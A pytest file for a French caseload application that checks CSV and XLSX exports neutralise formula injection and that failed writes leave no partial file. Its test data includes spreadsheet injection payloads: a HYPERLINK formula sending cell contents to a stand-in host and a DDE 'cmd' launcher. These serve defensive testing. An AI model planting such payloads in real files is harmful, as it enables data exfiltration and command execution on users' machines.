"""Every CSV and XLSX the application writes is safe to open (OWASP CSV injection: cells starting with
= + - @ tab CR are neutralised, XLSX text is never a formula), every list the window exports is exported
headless too, and a write that fails (read-only folder, full disk) leaves one French line, no partial file
and no audit event — and never undoes or hides what was committed."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.__main__ import main
from app.models.files import OutputError
from app.models.tables.local import AuditEvent
from app.models.tables.people import Person
from app.services.demo.build import populate_demo
from app.services.reporting import export, indicators
from app.services.storage import vault as vault_service
from tests.filesystems import fill, read_only_folder, tiny_disk

SECRET = "phrase secrète des exports"
TODAY = date(2026, 11, 23)
HOSTILE = ['=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
DATA = Path(__file__).parent / "data" / "imports"


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, vault_service.Vault]]:
    """A 16-person demo caseload whose surnames a spreadsheet would all run as formulas."""
    data_dir = tmp_path_factory.mktemp("exports")
    vault = vault_service.create_vault(
        data_dir, "demo", mode=vault_service.MODE_PASSPHRASE, passphrase=SECRET
    )
    populate_demo(vault, size=16, today=TODAY)
    with vault.db.session() as s:
        people = s.scalars(select(Person).where(Person.deleted_at.is_(None)).order_by(Person.id)).all()
        for i, p in enumerate(people):
            p.last_name = HOSTILE[i % len(HOSTILE)]
    vault.close()
    try:
        yield data_dir, vault
    finally:
        pass


def run(data_dir: Path, monkeypatch: pytest.MonkeyPatch, *args: str) -> int:
    monkeypatch.setattr("sys.stdin", io.StringIO(SECRET + "\n"))
    return main(["--data-dir", str(data_dir), "--profile", "demo", "--passphrase-stdin", *args])


def audits(data_dir: Path) -> int:
    v = vault_service.open_vault(data_dir, "demo", passphrase=SECRET)
    try:
        with v.db.read() as s:
            return int(s.scalar(select(func.count()).select_from(AuditEvent)) or 0)
    finally:
        v.close()


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig")), delimiter=";"))


def assert_csv_safe(path: Path) -> None:
    cells = [c for row in csv_cells(path) for c in row]
    risky = [
        c
        for c in cells
        if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"^-[^\d]", c) or c.startswith("-2+")
    ]
    assert not risky, risky
    for name in HOSTILE:
        if name in {c.lstrip("'") for c in cells}:
            assert "'" + name in cells


def assert_xlsx_safe(path: Path, *, sheet: str) -> None:
    with zipfile.ZipFile(path) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(part), part  # no formula anywhere
    ws = load_workbook(path)[sheet]
    seen = 0
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value in HOSTILE:
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                seen += 1
    assert seen, "the hostile names should be in the list"


def test_headless_exports_of_the_caseload_alerts_and_the_people_behind_a_figure(
    demo, tmp_path, monkeypatch, capsys
) -> None:
    data_dir = demo[0]
    before = audits(data_dir)
    for ext in ("csv", "xlsx"):
        target = tmp_path / f"file-active.{ext}"
        assert run(data_dir, monkeypatch, "caseload", "--out", str(target)) == 0
        assert f"File active écrite : {target}" in capsys.readouterr().out
    rows = csv_cells(tmp_path / "file-active.csv")
    assert run(data_dir, monkeypatch, "caseload", "--json") == 0
    listed = json.loads(capsys.readouterr().out)
    assert rows[0][:3] == ["Nom", "Prénom", "N° allocataire"] and len(rows) == 1 + len(listed)
    assert [r[2] for r in rows[1:]] == [p["caf_number"] for p in listed]
    assert_csv_safe(tmp_path / "file-active.csv")
    assert_xlsx_safe(tmp_path / "file-active.xlsx", sheet="File active")
    assert load_workbook(tmp_path / "file-active.xlsx")["File active"]["C2"].number_format == "@"

    for ext in ("csv", "xlsx"):
        target = tmp_path / f"alertes.{ext}"
        assert run(data_dir, monkeypatch, "alerts", "--on", "2026-11-23", "--all", "--out", str(target)) == 0
        assert "Alertes au 23/11/2026 écrites" in capsys.readouterr().out
    alerts = csv_cells(tmp_path / "alertes.csv")
    assert alerts[0] == ["Échéance", "Fondement", "Personne", "Date limite", "État", "Jours restants"]
    assert len(alerts) > 1
    assert_csv_safe(tmp_path / "alertes.csv")

    for ext in ("csv", "xlsx"):
        target = tmp_path / f"personnes.{ext}"
        assert run(data_dir, monkeypatch, "report", "--period", "2026-10", "--people", "file_active",
                   "--out", str(target)) == 0  # fmt: skip
        assert "Liste écrite (file_active — octobre 2026)" in capsys.readouterr().out
    assert_csv_safe(tmp_path / "personnes.csv")
    assert_xlsx_safe(tmp_path / "personnes.xlsx", sheet="Personnes")
    assert (
        run(data_dir, monkeypatch, "report", "--period", "2026-10", "--people", "file_active", "--json") == 0
    )
    assert capsys.readouterr().out.lstrip().startswith("[")
    assert run(data_dir, monkeypatch, "report", "--people", "inconnu", "--out", str(tmp_path / "x.csv")) == 2
    assert "inconnu" in capsys.readouterr().err and not (tmp_path / "x.csv").exists()
    assert audits(data_dir) >= before + 2 * len(listed)  # every list of people is audited, person by person


def test_the_report_workbook_holds_numbers_and_strings_never_formulas(demo, tmp_path: Path) -> None:
    v = vault_service.open_vault(demo[0], "demo", passphrase=SECRET)
    try:
        report = indicators.compute(v.db, indicators.parse_period("2026-10"))
        export.export_report(v.db, report, tmp_path / "r.xlsx", actor="essai")
    finally:
        v.close()
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        assert not any(b"<f>" in z.read(p) for p in z.namelist() if p.startswith("xl/worksheets/"))


# --- failed writes ----------------------------------------------------------------------------------------


def test_a_read_only_folder_or_a_full_disk_leaves_one_french_line_and_nothing_else(
    demo, tmp_path, monkeypatch, capsys
) -> None:
    data_dir = demo[0]
    before = audits(data_dir)
    with read_only_folder(tmp_path / "lecture-seule") as ro:
        assert run(data_dir, monkeypatch, "caseload", "--out", str(ro / "file.xlsx")) == 2
        err = capsys.readouterr().err
        assert err == "Erreur : Le fichier « file.xlsx » n'a pas pu être écrit : le support est en lecture seule. " \
                      "Aucun fichier partiel n'a été laissé.\n"  # fmt: skip
    with tiny_disk(tmp_path / "plein") as full:
        fill(full)  # the disk is full
        for args in (["caseload", "--out", str(full / "file.csv")],
                     ["report", "--period", "2026-10", "--out", str(full / "rapport.pdf")],
                     ["report", "--period", "2026-10", "--people", "file_active", "--out", str(full / "p.xlsx")]):  # fmt: skip
            assert run(data_dir, monkeypatch, *args) == 2
            err = capsys.readouterr().err
            assert "le disque est plein" in err and err.count("\n") == 1 and "Traceback" not in err
        assert sorted(p.name for p in full.iterdir()) == ["occupe"]  # no partial file, no .part left
    assert audits(data_dir) == before  # nothing was exported, nothing is audited


def test_an_output_error_is_typed_and_leaves_an_existing_file_intact(tmp_path: Path) -> None:
    from app.models.files import write_file

    with tiny_disk(tmp_path / "plein", size="16k") as full:
        target = full / "compte-rendu.csv"
        write_file(target, b"ancien contenu")
        with pytest.raises(OutputError, match="le disque est plein"):
            write_file(target, b"x" * 100_000)
        assert target.read_bytes() == b"ancien contenu"
        assert sorted(p.name for p in full.iterdir()) == ["compte-rendu.csv"]


def test_an_import_report_that_cannot_be_written_imports_nothing(tmp_path, monkeypatch, capsys) -> None:
    data_dir = tmp_path / "data"
    v = vault_service.create_vault(data_dir, "demo", mode=vault_service.MODE_PASSPHRASE, passphrase=SECRET)
    v.close()
    with read_only_folder(tmp_path / "ro") as ro:
        code = run(data_dir, monkeypatch, "import", "orientations", str(DATA / "orientations_utf8.csv"),
                   "--report", str(ro / "compte-rendu.csv"))  # fmt: skip
    assert code == 2
    err = capsys.readouterr().err
    assert "compte-rendu.csv" in err and "lecture seule" in err
    v = vault_service.open_vault(data_dir, "demo", passphrase=SECRET)
    with v.db.read() as s:
        assert s.scalar(select(func.count()).select_from(Person)) == 0  # the report comes before the commit
    v.close()
    report = tmp_path / "compte-rendu.csv"
    assert run(data_dir, monkeypatch, "import", "orientations", str(DATA / "orientations_utf8.csv"),
               "--report", str(report)) == 0  # fmt: skip
    assert csv_cells(report)[0] == ["Ligne", "Résultat", "Motif", "Champs modifiés", "Avertissement"]
